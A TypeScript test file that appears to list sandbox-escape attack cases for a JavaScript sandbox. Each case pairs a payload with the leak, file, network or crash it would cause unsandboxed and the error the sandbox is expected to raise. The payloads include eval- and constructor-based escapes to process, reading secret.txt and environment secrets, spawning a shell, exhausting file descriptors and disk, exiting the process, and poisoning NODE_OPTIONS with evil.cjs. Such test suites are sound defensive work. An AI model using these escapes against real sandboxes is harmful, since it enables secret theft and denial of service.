import type { Attack } from '../attack.ts'

const host = `echo.constructor('return process')()`

/** E12: modules, and what they are wanted for: other processes, files, servers, other sandboxes. */
export const modules: readonly Attack[] = [
  {
    id: 'E12-a',
    title: 'a dynamic import',
    from: ['vm2-cat13-0'],
    code: `finalAnswer((await import('node:process')).env.CANARY)`,
    open: 'leak',
    here: 'error:SyntaxError',
  },
  {
    id: 'E12-b',
    title: 'a dynamic import in code that is evaluated',
    from: ['vm2-cat13-0'],
    code: `finalAnswer((await eval("import('node:process')")).env.CANARY)`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-c',
    title: 'a dynamic import in an indirect eval',
    code: `finalAnswer((await (0, eval)("import('node:process')")).env.CANARY)`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-d',
    title: 'a dynamic import in a function made from text',
    code: `finalAnswer((await new Function('name', 'return import(name)')('node:process')).env.CANARY)`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-e',
    title: 'the error of an import that fails',
    code: `
      const caught = await eval("import('./none.js')").catch((error) => error)
      finalAnswer(caught.constructor.constructor('return process.env.CANARY')())`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-f',
    title: 'an import with attributes, of a secret beside the program',
    code: `
      const url = 'data:application/json,{}'
      await eval("import(url, { with: { type: 'json' } })").catch(() => {})
      finalAnswer((await eval("import('node:fs', { with: {} })")).readFileSync('secret.txt', 'utf8'))`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-g',
    title: 'an import whose name is an object that changes',
    code: `
      let asked = 0
      globalThis.name = { toString: () => (asked++ ? 'harmless' : 'node:process') }
      finalAnswer((await eval('import(name)')).env.CANARY)`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-h',
    title: 'an import of the code that runs the code',
    code: `
      const guesses = ['prelude', './prelude.js', '../prelude.js', '/guests/javascript/prelude.js', 'values/codec.js']
      for (const guess of guesses) {
        const found = await eval('import(guess)').catch(() => undefined)
        if (found) finalAnswer(Object.keys(found))
      }
      finalAnswer((await eval("import('node:process')")).env.CANARY)`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-i',
    title: 'a function that loads any module, taken from one that is allowed',
    from: ['vm2-cat21-0', 'vm2-GHSA-947f-4v7f-x2v8-repro'],
    code: `
      const { _load: loadModule } = ${host}.getBuiltinModule('module')
      finalAnswer(loadModule('fs').readFileSync('secret.txt', 'utf8'))`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-j',
    title: 'another sandbox inside, with rules of its own',
    from: ['vm2-cat25-0'],
    code: `finalAnswer((await eval("import('node:vm')")).runInThisContext('process.env.CANARY'))`,
    open: 'leak',
    here: 'error:TypeError',
  },
  {
    id: 'E12-k',
    title: 'a worker thread inside, with rules of its own',
    from: ['vm2-cat25-1', 'vm2-cat21-0'],
    code: `
      const { Worker } = ${host}.getBuiltinModule('worker_threads')
      const text = "require('worker_threads').parentPort.postMessage(process.env.CANARY)"
      const worker = new Worker(text, { eval: true })
      finalAnswer(await new Promise((resolve) => worker.once('message', resolve)))`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-l',
    title: 'the secret of another session, by the globals of the host',
    code: `finalAnswer(echo.constructor('return sessions.other.secret')())`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-m',
    title: 'a command in a child process, the first of a fork bomb',
    from: ['res-05'],
    code: `
      const { spawnSync } = ${host}.getBuiltinModule('child_process')
      spawnSync('sh', ['-c', 'echo forked > forked.txt'])`,
    open: 'files',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-n',
    title: 'more and more open files',
    from: ['res-06'],
    code: `
      const { openSync } = ${host}.getBuiltinModule('fs')
      for (let count = 0; count < 200; count += 1) openSync('secret.txt')`,
    open: 'files',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-o',
    title: 'a file that fills the disk',
    from: ['res-07'],
    code: `
      const { appendFileSync } = ${host}.getBuiltinModule('fs')
      for (let count = 0; count < 10; count += 1) appendFileSync('full.txt', 'x'.repeat(1e5))`,
    open: 'files',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-p',
    title: 'a request to a server of the host',
    code: `
      const send = typeof fetch === 'function' ? fetch : echo.constructor('return fetch')()
      await send(echo.constructor('return process.env.SINK')())`,
    open: 'network',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-q',
    title: 'the end of the process',
    code: `${host}.exit(3)`,
    open: 'death',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-r',
    title: 'a variable of the environment for whoever comes next',
    code: `${host}.env.NODE_OPTIONS = '--require ./evil.cjs'`,
    open: 'pollution',
    here: 'error:ReferenceError',
  },
  {
    id: 'E12-s',
    title: 'the debugger of the process',
    code: `
      const inspector = ${host}.getBuiltinModule('inspector')
      const session = new inspector.Session()
      session.connect()
      session.post('Runtime.evaluate', { expression: 'process.env.CANARY' }, (_, { result }) => finalAnswer(result.value))`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
]
